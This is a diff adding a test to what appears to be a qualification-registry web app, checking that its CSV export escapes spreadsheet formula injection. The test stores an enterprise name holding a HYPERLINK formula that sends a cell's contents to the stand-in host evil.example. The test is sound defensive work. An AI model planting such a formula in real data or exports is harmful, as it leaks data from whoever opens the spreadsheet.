@@ -285,3 +285,20 @@ def test_the_registry_is_not_open_to_the_public_or_process_owners(ctx, people, c
             assert refused.status_code == 403, (role, path, refused.status_code)
             assert "资质公开查询" in refused.json["detail"]
     assert client.get("/api/v1/public/qualifications").status_code == 200  # what a notice shows
+
+
+def test_exported_text_a_spreadsheet_would_run_is_kept_as_text(ctx, people) -> None:  # type: ignore[no-untyped-def]
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    f.issue_qualification(
+        ctx,
+        uscc_code=f.uscc(NC, 8),
+        tier="specialized",
+        number="Q-NC-8",
+        region=NC,
+        issued_on=date(2025, 9, 1),
+        enterprise_name=formula,
+    )
+    text = people["province"].get("/api/v1/qualifications/export").get_data(as_text=True)
+    [row] = [r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if "Q-NC-8" in r]
+    assert "'" + formula in row  # shown as text, never evaluated
+    assert formula not in row
